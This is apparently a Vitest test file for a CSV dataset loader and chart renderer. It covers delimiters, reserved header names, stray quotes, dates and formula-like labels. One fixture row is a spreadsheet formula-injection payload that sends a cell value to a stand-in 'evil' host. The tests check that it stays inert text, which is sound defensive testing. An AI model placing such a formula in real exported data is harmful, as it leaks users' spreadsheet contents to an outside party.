/**
 * Section A of tests/checklist/README.md (CSV data): the sub-cases the audit found implemented but
 * untested. Each test reads a fixture project from `tests/fixtures/checklist/`
 * and asserts the exact problems, or the exact rows when the file is valid.
 */
import { join, resolve } from 'node:path';
import { VFile } from 'vfile';
import { describe, expect, it } from 'vitest';
import { checkProject } from '../../src/lib/check/check-project.ts';
import { clearDatasetCache, readDataset } from '../../src/lib/data/load-dataset.ts';
import { formatProblems } from '../../src/lib/errors.ts';
import { createReportProcessor } from '../../src/plugins/remark/processor.ts';
import { SITE } from '../../src/site.config.ts';

const FIXTURES = resolve(import.meta.dirname, '../fixtures/checklist');

/** Every property name a row inherits (own names of each object up its prototype chain). */
function inherited(row: object): string[] {
  const names: string[] = [];
  for (let proto = Object.getPrototypeOf(row); proto !== null; proto = Object.getPrototypeOf(proto))
    names.push(...Reflect.ownKeys(proto).map(String));
  return names;
}

/** Reads `data/input.csv` of a fixture folder. */
function readInput(folder: string) {
  clearDatasetCache();
  return readDataset(join(FIXTURES, folder), 'input');
}

describe('A4: semicolon files from European Excel', () => {
  it('A4: reads a file whose sidecar declares delimiter ";" with decimal commas, and keeps a quoted ";" in one cell', () => {
    const { dataset, problems } = readInput('a4-sidecar-declares-semicolon-delimiter');
    expect(problems).toEqual([]);
    expect(dataset!.columns.map((column) => [column.name, column.type, column.decimals])).toEqual([
      ['year', 'year', 0],
      ['tier', 'category', 0],
      ['engagement_rate', 'percent', 2],
      ['label', 'category', 0],
    ]);
    expect(dataset!.rows).toEqual([
      { year: 2016, tier: 'micro', engagement_rate: 2.4, label: 'a;b' },
      { year: 2017, tier: 'micro', engagement_rate: 1.75, label: 'c' },
    ]);
    expect(dataset!.info).toEqual([{ line: 2 }, { line: 3 }]);
  });

  it('A4: reads a sep=; file with a single data row, never taking "sep=;" for the header', () => {
    const { dataset, problems } = readInput('a4-sep-line-and-a-single-data-row');
    expect(problems).toEqual([]);
    expect(dataset!.columns.map((column) => column.name)).toEqual(['year', 'tier', 'cost']);
    expect(dataset!.rows).toEqual([{ year: 2016, tier: 'micro', cost: 1234.5 }]);
    // The sep= line is line 1, the header line 2, so the only row is on line 3.
    expect(dataset!.info).toEqual([{ line: 3 }]);
  });
});

describe('A6: reserved header names', () => {
  it('A6: valueOf and hasOwnProperty headers are refused like __proto__, and Object.prototype stays clean', () => {
    const { dataset, problems } = readInput('a6-reserved-headers-valueof-and-hasownproperty');
    expect(formatProblems(problems)).toBe(
      [
        'data/input.csv:1:6: column 2 is named "valueOf", which is reserved. Expected a name other than __proto__, constructor, prototype, toString, valueOf or hasOwnProperty, received "valueOf". Rename the column, for example to a more specific snake_case name. [TB009]',
        'data/input.csv:1:14: column 3 is named "hasOwnProperty", which is reserved. Expected a name other than __proto__, constructor, prototype, toString, valueOf or hasOwnProperty, received "hasOwnProperty". Rename the column, for example to a more specific snake_case name. [TB009]',
        '2 problems found.',
      ].join('\n'),
    );
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.keys(Object.prototype)).toEqual([]);
    expect(typeof ({} as { valueOf: unknown }).valueOf).toBe('function');
    // biome-ignore lint/suspicious/noPrototypeBuiltins: the prototype's own method is what must still work.
    expect(Object.prototype.hasOwnProperty.call({ a: 1 }, 'a')).toBe(true);
    // Lossless: both columns keep their values as own keys of rows that inherit nothing.
    const rows = dataset!.rows;
    expect(rows.map((row) => inherited(row))).toEqual([[], []]);
    expect(rows.map((row) => [row['valueOf'], row['hasOwnProperty']])).toEqual([
      [1, 2],
      [3, 4],
    ]);
  });
});

describe('A7: a header that differs in case and spacing', () => {
  it('A7: y="engagement_rate" against the header "Engagement Rate " fails at the directive with a did-you-mean', async () => {
    const { problems } = await checkProject(join(FIXTURES, 'a7-header-with-capitals-and-trailing-space'), SITE);
    expect(formatProblems(problems)).toBe(
      [
        'content/reports/q3.md:9:23: y="engagement_rate": data/eng.csv has no column "engagement_rate". Expected one of "year", "tier" or "Engagement Rate ", received "engagement_rate". Did you mean "Engagement Rate "? [TB138]',
        '1 problem found.',
      ].join('\n'),
    );
  });
});

describe('A9: stray quotes', () => {
  it('A9: "a "b"" ,c gives one problem on its line, not one per papaparse error', () => {
    const { dataset, problems } = readInput('a9-malformed-quotes-in-one-row');
    expect(formatProblems(problems)).toBe(
      [
        'data/input.csv:3:5: text after the closing quote of a cell. Expected "," or the end of the line right after a closing quote, received "\\"a \\"b\\"\\" ,c". Quote the whole cell and double every quote inside it, for example "a ""b""". [TB014]',
        '1 problem found.',
      ].join('\n'),
    );
    expect(dataset!.rows).toEqual([{ name: 'first', note: 'plain' }]);
  });

  it('A9: 5" screen, a space before a quote and an unclosed quote each fail on their own line, and the rows after them are still checked', () => {
    const { problems } = readInput('a9-stray-and-unclosed-quotes');
    expect(formatProblems(problems)).toBe(
      [
        'data/input.csv:2:7: a quote inside a cell that does not start with a quote. Expected quotes only around a whole cell, with quotes inside it doubled, received "5\\" screen". Quote the whole cell and double the quote inside it: "5"" screen". [TB016]',
        'data/input.csv:3:7: a space before the opening quote of a cell. Expected the quote right after "," or at the start of the line, received " \\"spaced\\"". Remove the spaces before the quote. [TB015]',
        'data/input.csv:4:6: a quote opened here is never closed. Expected a closing " before the end of the cell, received "2018,\\"Acme, Inc,3". Close the quote, or write a literal quote inside a quoted cell as two quotes (""). [TB013]',
        'data/input.csv:7:1: this row has 2 fields, the header has 3. Expected 3 fields, received 2 ("2021,micro"). Add the missing fields (empty ones are fine: write nothing between the commas). [TB011]',
        '4 problems found.',
      ].join('\n'),
    );
  });

  it('A9: an unclosed quote that a later quote seems to close is still reported where it was opened', () => {
    const { problems } = readInput('a9-unclosed-quote-before-a-quoted-cell');
    expect(formatProblems(problems)).toBe(
      [
        'data/input.csv:3:6: a quote opened here is never closed. Expected a closing " before the end of the cell, received "2017,\\"Acme, Inc,2". Close the quote, or write a literal quote inside a quoted cell as two quotes (""). [TB013]',
        '1 problem found.',
      ].join('\n'),
    );
  });

  it('A9: doubled quotes, empty quoted cells and quoted line breaks are fine', () => {
    const { dataset, problems } = readInput('a9-valid-quoting');
    expect(problems).toEqual([]);
    expect(dataset!.rows).toEqual([
      { name: '5" screen', note: null },
      { name: 'two\nlines', note: '"quoted"' },
    ]);
  });
});

describe('A10: dates', () => {
  it('A10: day-first dates declared DD/MM/YYYY become ISO dates, and a chart over them runs in time order', async () => {
    const folder = 'a10-day-first-dates';
    const { dataset, problems } = readInput(folder);
    expect(problems).toEqual([]);
    expect(dataset!.rows.map((row) => row['published'])).toEqual(['2024-04-13', '2024-04-03', '2023-12-01']);
    const root = join(FIXTURES, folder);
    const file = new VFile({
      value: '::chart{#by-day dataset="input" x="published" y="engagement_rate" type="line" title="By day"}\n',
      path: join(root, 'content/reports/q3.md'),
    });
    const html = String(await createReportProcessor({ root, config: SITE }).process(file));
    // In time order, written as the site's locale writes dates (the CSV download keeps the ISO text).
    expect([...html.matchAll(/<th scope="row">([^<]*)<\/th>/g)].map((match) => match[1])).toEqual([
      'Dec 1, 2023',
      'Apr 3, 2024',
      'Apr 13, 2024',
    ]);
  });
});

describe('A12: formula text in a label column', () => {
  const folder = 'a12-formula-text-in-a-label-column';

  it('A12: keeps =HYPERLINK(…), @SUM(…), +1 and -2 as literal text, with no problem', () => {
    const { dataset, problems } = readInput(folder);
    expect(problems).toEqual([]);
    expect(dataset!.columns.map((column) => [column.name, column.type])).toEqual([
      ['label', 'category'],
      ['value', 'number'],
    ]);
    expect(dataset!.rows.map((row) => row['label'])).toEqual([
      '=HYPERLINK("http://evil/?"&A1,"Click")',
      '@SUM(A1:A9)',
      '+1',
      '-2',
    ]);
  });

  it('A12: shows the formula labels as text in the chart table', async () => {
    const root = join(FIXTURES, folder);
    const file = new VFile({
      value: '::chart{#labels dataset="input" x="label" y="value" type="bar" title="Labels"}\n',
      path: join(root, 'content/reports/q3.md'),
    });
    const html = String(await createReportProcessor({ root, config: SITE }).process(file));
    expect(/<tbody>.*<\/tbody>/s.exec(html)![0]).toBe(
      '<tbody><tr><th scope="row">=HYPERLINK("http://evil/?"&#x26;A1,"Click")</th><td>1</td></tr><tr><th scope="row">@SUM(A1:A9)</th><td>2</td></tr><tr><th scope="row">+1</th><td>3</td></tr><tr><th scope="row">-2</th><td>4</td></tr></tbody>',
    );
  });
});
